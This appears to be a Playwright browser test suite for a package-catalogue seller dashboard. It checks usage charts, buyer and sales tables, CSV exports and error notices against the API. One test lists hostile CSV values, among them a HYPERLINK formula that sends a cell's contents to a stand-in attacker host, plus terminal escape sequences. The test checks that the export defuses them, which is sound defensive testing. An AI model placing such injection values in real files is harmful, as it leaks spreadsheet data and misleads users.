"""The dashboard end to end: a seller in Chromium, against a served demo catalogue.

What the page shows is compared with what the API answers the same key; the CSV
files it offers are compared with the API's lists walked to their ends.
"""

from __future__ import annotations

import csv
import io
import math
import re
import subprocess
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Locator, Page, expect

from pkgcat.cli._safe import spreadsheet_cell, visible
from pkgcat.storage.admin import CatalogueAdmin
from tests.browser.conftest import Watched
from tests.debs import build_deb
from tests.servers import PKGCAT, Served, environment, poll, seed, serving, stop

pytestmark = [pytest.mark.server, pytest.mark.browser]

STORED_KEY = "() => sessionStorage.getItem('pkgcat.secretKey')"
CHART_LABELS = "(id) => Chart.getChart(document.getElementById(id)).data.labels"
CHART_SERIES = "(id) => Chart.getChart(document.getElementById(id)).data.datasets.map(d => d.label)"
REFUNDS = {"Refunded", "Chargeback"}


def answer(base: str, key: str, operation: str, **params: Any) -> Any:
    """The API's ``response`` to the key's GET of ``operation``."""
    got = httpx.get(
        f"{base}/1.0/{operation}.json",
        params=params,
        headers={"Authorization": f"Bearer {key}"},
        timeout=30,
    )
    body = got.json()
    assert body["code"] == 0, body
    return body["response"]


def walked(base: str, key: str, operation: str, field: str, **params: Any) -> list[dict[str, Any]]:
    """Every item of a cursor list, its pages walked to the end."""
    items: list[dict[str, Any]] = []
    query = {**params, "limit": 100}
    while True:
        page = answer(base, key, operation, **query)
        items.extend(page[field])
        if not page["has_more"]:
            return items
        query["cursor"] = page["cursor"]


def today(base: str, key: str) -> date:
    """The application's today, as its usage report dates it (shape A)."""
    return date.fromisoformat(answer(base, key, "application/usage", days=1)[-1]["date"][:10])


def as_csv_rows(items: list[dict[str, Any]], columns: list[str]) -> list[dict[str, str]]:
    """Items as a CSV reader gives them back: every value a string, none empty."""
    return [{c: "" if item[c] is None else str(item[c]) for c in columns} for item in items]


def downloaded(page: Page, button: Locator) -> tuple[str, list[dict[str, str]]]:
    """The file name and rows of the CSV that ``button`` downloads."""
    with page.expect_download() as started:
        button.click()
    download = started.value
    text = Path(download.path()).read_text(encoding="utf-8")
    return download.suggested_filename, list(csv.DictReader(io.StringIO(text)))


def sign_in(page: Page, base: str, key: str) -> None:
    """Open the dashboard and sign in from the keyboard alone."""
    page.goto(f"{base}/dashboard")
    page.get_by_label("Secret key").focus()
    page.keyboard.type(key)
    page.keyboard.press("Enter")


def column(table: Locator, index: int) -> list[str]:
    """The texts of one column of a table's body (0 is the first cell of each row)."""
    return [
        text.strip()
        for text in table.locator(f"tbody tr > :nth-child({index + 1})").all_inner_texts()
    ]


def test_usage_over_each_range_then_sign_out(served: Served, watched: Watched) -> None:
    page, key = watched.page, served.apps[0]["secret_key"]
    sign_in(page, served.base, key)
    rows = page.locator("#usage-table tbody tr")
    expect(rows).to_have_count(30)
    last = today(served.base, key)
    labels = page.evaluate(CHART_LABELS, "usage-chart")
    assert labels == [str(last - timedelta(days=n)) for n in range(29, -1, -1)]
    # Split by operation: the dashboard's own requests of today are usage requests.
    assert "application/usage" in page.evaluate(CHART_SERIES, "usage-chart")
    limit = httpx.get(
        f"{served.base}/1.0/application/usage.json",
        headers={"Authorization": f"Bearer {key}"},
    ).headers["ratelimit-limit"]
    expect(page.locator("#rate-limit")).to_have_text(f"{limit} requests per hour")  # 3600/hour
    expect(page.locator("#rate-remaining")).to_contain_text("window resets in")
    assert int(page.locator("#usage-today").inner_text()) >= 1
    page.get_by_text("Requests per day as a table").click()  # the table under the chart
    watched.snap("usage")

    # The range is a radio group: the arrow keys move through it.
    page.get_by_label("30 days").focus()
    page.keyboard.press("ArrowRight")
    expect(page.get_by_label("90 days")).to_be_checked()
    expect(rows).to_have_count(90)
    page.get_by_label("365 days").check()
    expect(rows).to_have_count(365)
    assert len(page.evaluate(CHART_LABELS, "usage-chart")) == 365

    assert page.evaluate(STORED_KEY) == key
    assert not [url for url in watched.requested if key in url], "the key went into an address"
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_label("Secret key")).to_be_visible()
    assert page.evaluate(STORED_KEY) is None
    assert page.evaluate("() => sessionStorage.length") == 0
    page.reload()
    expect(page.get_by_label("Secret key")).to_be_visible()
    expect(page.get_by_role("navigation", name="Views")).to_be_hidden()


SERIES_COLOURS = (
    "(id) => Object.fromEntries(Chart.getChart(document.getElementById(id)).data.datasets"
    ".map(d => [d.label, d.backgroundColor]))"
)
UNSPLIT = "not split by operation"


def test_each_usage_series_keeps_its_colour_from_one_load_to_the_next(
    served: Served, watched: Watched
) -> None:
    page = watched.page
    # An application with loaded history (no split) and nothing else: two series, where the
    # demo's own application has seven.
    admin = CatalogueAdmin(served.env["PKGCAT_DATABASE_URL"])
    try:
        fresh = admin.create_application(served.apps[0]["source"], "colours")
        last = today(served.base, fresh.secret_key)
        admin.load(usage=[(fresh.application.id, last - timedelta(days=40), 120)])
    finally:
        admin.close()
    colours: list[dict[str, str]] = []
    for key in (fresh.secret_key, served.apps[0]["secret_key"]):
        sign_in(page, served.base, key)
        expect(page.locator("#usage-table tbody tr")).to_have_count(30)
        colours.append(page.evaluate(SERIES_COLOURS, "usage-chart"))
        page.get_by_label("90 days").check()
        expect(page.locator("#usage-table tbody tr")).to_have_count(90)
        colours.append(page.evaluate(SERIES_COLOURS, "usage-chart"))
        page.get_by_role("button", name="Sign out").click()
    assert set(colours[1]) == {"application/usage", UNSPLIT}
    assert len(colours[3]) == 7  # the six operations, and the demo's unsplit older days
    for name in ("application/usage", UNSPLIT):
        assert len({loaded[name] for loaded in colours if name in loaded}) == 1, (name, colours)
    every = colours[3]
    assert len(set(every.values())) == len(every), every  # no two series alike


def test_a_shape_b_application_s_usage(served: Served, watched: Watched) -> None:
    page = watched.page
    legacy = next(app for app in served.apps if app["shape"] == "B")
    sign_in(page, served.base, legacy["secret_key"])
    expect(page.locator("#usage-table tbody tr")).to_have_count(30)
    # Shape B writes a usage day as DD-MM-YYYY HH:MM:SS: the page dates it all the same.
    written = answer(served.base, legacy["secret_key"], "application/usage", days=1)[-1]["date"]
    day, month, year = written[:10].split("-")
    assert page.evaluate(CHART_LABELS, "usage-chart")[-1] == f"{year}-{month}-{day}"
    owned = walked(served.base, legacy["secret_key"], "source/packages", "packages")
    page.get_by_role("button", name="Packages", exact=True).click()
    expect(page.locator("#packages-table tbody tr")).to_have_count(len(owned))
    updated = column(page.locator("#packages-table"), 8)
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", text) for text in updated), updated


def test_packages_sort_and_a_package_s_buyers_page_through(
    served: Served, watched: Watched
) -> None:
    page, app = watched.page, served.apps[0]
    key, paid = app["secret_key"], app["paid_package"]
    packages = walked(served.base, key, "source/packages", "packages")
    sign_in(page, served.base, key)
    page.get_by_role("button", name="Packages", exact=True).click()
    table = page.locator("#packages-table")
    expect(table.locator("tbody tr")).to_have_count(len(packages))
    assert column(table, 0) == sorted(item["package"] for item in packages)
    by_downloads = sorted(packages, key=lambda item: (item["downloads"], item["package"]))
    page.get_by_role("button", name="Downloads").click()
    expect(table.locator("th[data-key=downloads]")).to_have_attribute("aria-sort", "ascending")
    assert column(table, 0) == [item["package"] for item in by_downloads]
    page.get_by_role("button", name="Downloads").click()
    expect(table.locator("th[data-key=downloads]")).to_have_attribute("aria-sort", "descending")
    assert column(table, 5) == [str(item["downloads"]) for item in reversed(by_downloads)]
    watched.snap("packages")

    page.get_by_role("button", name=f"Buyers of {paid}").click()
    first = answer(served.base, key, "package/buyers", package=paid, limit=25, cursor="")
    second = answer(
        served.base, key, "package/buyers", package=paid, limit=25, cursor=first["cursor"]
    )
    pages = math.ceil(int(first["total"]) / 25)
    buyers = page.locator("#buyers-table")
    summary = page.locator("#buyers-summary")
    expect(summary).to_contain_text(f"page 1 of {pages}")
    assert column(buyers, 7) == [buyer["txn_id"] for buyer in first["buyers"]]
    watched.snap("buyers")
    page.get_by_role("button", name="Next page").click()
    expect(summary).to_contain_text(f"page 2 of {pages}")
    assert column(buyers, 7) == [buyer["txn_id"] for buyer in second["buyers"]]
    page.get_by_role("button", name="Previous page").click()
    expect(summary).to_contain_text(f"page 1 of {pages}")
    assert column(buyers, 7) == [buyer["txn_id"] for buyer in first["buyers"]]

    name, rows = downloaded(page, page.get_by_role("button", name="Download all buyers as CSV"))
    everyone = walked(served.base, key, "package/buyers", "buyers", package=paid, cursor="")
    assert name == f"buyers-{paid}.csv"
    assert len(everyone) == int(first["total"])
    assert rows == as_csv_rows(everyone, list(rows[0]))


def test_a_year_of_sales_with_refunds_and_its_csv(served: Served, watched: Watched) -> None:
    page, key = watched.page, served.apps[0]["secret_key"]
    last = today(served.base, key)
    sign_in(page, served.base, key)
    page.get_by_role("button", name="Sales", exact=True).click()
    expect(page.get_by_label("To", exact=True)).to_have_value(str(last))
    month = str(last - timedelta(days=29))
    expect(page.get_by_label("From", exact=True)).to_have_value(month)
    ledger = page.locator("#sales-table")
    recent = walked(served.base, key, "source/sales", "sales", start=month, end=str(last))
    expect(ledger.locator("tbody tr")).to_have_count(len(recent))
    assert len(page.evaluate(CHART_LABELS, "sales-chart")) == 30
    watched.snap("sales")

    start = str(last - timedelta(days=364))
    page.get_by_label("From", exact=True).fill(start)
    page.get_by_role("button", name="Show", exact=True).click()

    sales = walked(served.base, key, "source/sales", "sales", start=start, end=str(last))
    totals = answer(served.base, key, "source/sales", start=start, end=str(last), limit=1)["totals"]
    expect(ledger.locator("tbody tr")).to_have_count(len(sales))
    assert column(ledger, 1) == [sale["txn_id"] for sale in sales]
    refunds = [sale for sale in sales if sale["status"] in REFUNDS]
    assert refunds, "the demo's year holds refunds"
    expect(ledger.locator("tbody tr.refund")).to_have_count(len(refunds))
    # A refund's net was not earned: struck out, and said so (the API's net is positive).
    nets = dict(zip(column(ledger, 1), column(ledger, 7), strict=True))
    for sale in refunds:
        said = "charged back" if sale["status"] == "Chargeback" else "refunded"
        assert nets[sale["txn_id"]] == f"{sale['net']} {said}", sale
    struck = ledger.locator("tbody tr.refund > :nth-child(8) del")
    expect(struck).to_have_count(len(refunds))
    shown = page.locator("#sales-totals")
    assert column(shown, 0) == [total["currency"] for total in totals]
    assert column(shown, 2) == [total["gross"] for total in totals]
    assert column(shown, 4) == [total["net"] for total in totals]
    assert column(shown, 6) == [total["refunded"] for total in totals]
    series = page.evaluate(CHART_SERIES, "sales-chart")
    assert series == [f"{kind} ({totals[0]['currency']})" for kind in ("gross", "net", "refunded")]
    assert len(page.evaluate(CHART_LABELS, "sales-chart")) == 365

    name, rows = downloaded(page, page.get_by_role("button", name="Download the ledger as CSV"))
    assert name == f"sales-{start}-{last}.csv"
    assert rows == as_csv_rows(sales, list(rows[0]))

    # An empty list says so: a day of the year on which nothing was sold.
    sold = {sale["date"][:10] for sale in sales}  # each sale's day in the application's zone
    quiet = next(
        str(last - timedelta(days=n))
        for n in range(365)
        if str(last - timedelta(days=n)) not in sold
    )
    page.get_by_label("From", exact=True).fill(quiet)
    page.get_by_label("To", exact=True).fill(quiet)
    page.get_by_role("button", name="Show", exact=True).click()
    expect(page.get_by_text("No sales in this range.")).to_be_visible()
    expect(ledger.locator("tbody tr")).to_have_count(0)


def test_a_refused_key_is_forgotten(served: Served, watched: Watched) -> None:
    page = watched.page
    sign_in(page, served.base, "pkc_" + "x" * 40)
    notice = page.locator("#notice")
    expect(notice).to_have_attribute("data-kind", "key")
    expect(notice).to_have_text(
        "This key was refused: unknown or revoked secret key. Check the key and sign in again."
    )
    expect(page.get_by_label("Secret key")).to_be_visible()
    assert page.evaluate(STORED_KEY) is None
    watched.snap("invalid-key")


def test_rate_limited_then_the_server_down(tmp_path: Path, watched: Watched) -> None:
    page = watched.page
    env = environment(f"sqlite:///{tmp_path / 'limited.db'}", rate_limit="5/hour")
    apps = seed(env)
    with serving(env, tmp_path / "server.log", apps=apps) as server:
        key = apps[0]["secret_key"]
        spent = [
            httpx.get(
                f"{server.base}/1.0/application/usage.json",
                headers={"Authorization": f"Bearer {key}"},
            ).status_code
            for _ in range(6)
        ]
        assert spent[-1] == 429, spent
        sign_in(page, server.base, key)
        notice = page.locator("#notice")
        expect(notice).to_have_attribute("data-kind", "rate")
        expect(notice).to_contain_text("rate limit is spent")
        expect(notice).to_contain_text("Retry in")
        assert page.evaluate(STORED_KEY) == key  # a spent limit is no reason to sign out
        watched.snap("rate-limited")

        stop(server.process)
        page.get_by_role("button", name="Retry").click()
        expect(notice).to_have_attribute("data-kind", "down")
        expect(notice).to_contain_text("cannot be reached")
        watched.snap("server-down")


CSV_MODULE = "async (rows) => (await import('/dashboard/assets/csv.js')).toCsv(['nickname'], rows)"


def test_csv_files_defuse_formulas_and_show_control_characters(
    served: Served, watched: Watched
) -> None:
    # Nicknames as a storefront may send them; the dashboard's CSV follows the CLI's rule.
    hostile = [
        '=HYPERLINK("http://evil.example/?x="&B2;"open")',
        "+A1",
        "-2+3",
        "@SUM(1)",
        "\tTAB",
        "\rCR",
        "\x1b]2;owned\x07",
        "clear\x1b[2J",
        "right\u202eleft",
        "-1.50",
        "plain",
    ]
    watched.page.goto(f"{served.base}/dashboard")
    text = watched.page.evaluate(CSV_MODULE, [{"nickname": value} for value in hostile])
    cells = [row["nickname"] for row in csv.DictReader(io.StringIO(text))]
    assert cells == [visible(spreadsheet_cell(value)) for value in hostile]
    assert cells[0].startswith("'=HYPERLINK(")
    assert cells[6] == "\\x1b]2;owned\\x07"
    assert cells[9] == "-1.50"


def test_a_package_s_downloads_chart_counts_a_download(
    served: Served, watched: Watched, tmp_path: Path
) -> None:
    """A .deb published and downloaded once: the chart and its table show it today."""
    app = served.apps[0]
    deb = build_deb(tmp_path, "com.example.charted", "1.0")
    published = subprocess.run(
        [PKGCAT, "publish", str(deb), "--source", app["source"]],
        env=served.env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert published.returncode == 0, published.stderr

    def pool_path() -> str | None:  # the worker rebuilds its indexes off the request path
        packages = httpx.get(f"{served.base}/repo/Packages", timeout=30).text
        found = [
            line.removeprefix("Filename: ")
            for line in packages.splitlines()
            if line.startswith("Filename: ") and "com.example.charted" in line
        ]
        return found[0] if found else None

    path = poll(pool_path, "the published file in the served index")
    assert httpx.get(f"{served.base}/repo/{path}", timeout=30).content == deb.read_bytes()
    key = app["secret_key"]
    report = answer(served.base, key, "package/downloads", package="com.example.charted", days=29)
    assert report["downloads"][-1]["downloads"] == 1

    sign_in(watched.page, served.base, key)
    page = watched.page
    page.get_by_role("button", name="Download counts").click()
    page.get_by_label("Package", exact=True).select_option("com.example.charted")
    page.get_by_role("button", name="Show downloads").click()
    expect(page.locator("#downloads-total")).to_have_text("1")
    expect(page.locator("#downloads-today")).to_have_text("1")
    labels = page.evaluate(CHART_LABELS, "downloads-chart")
    assert labels == [entry["day"] for entry in report["downloads"]]
    data = page.evaluate(
        "(id) => Chart.getChart(document.getElementById(id)).data.datasets[0].data",
        "downloads-chart",
    )
    assert data == [entry["downloads"] for entry in report["downloads"]]
    page.get_by_text("Downloads per day as a table").click()
    table = page.locator("#downloads-table")
    expect(table.locator("tbody tr")).to_have_count(30)
    assert column(table, 0)[0] == report["end"]  # newest first
    assert column(table, 1)[0] == "1"
    page.get_by_label("Days shown").select_option("90")
    expect(table.locator("tbody tr")).to_have_count(90)
    watched.snap("downloads")
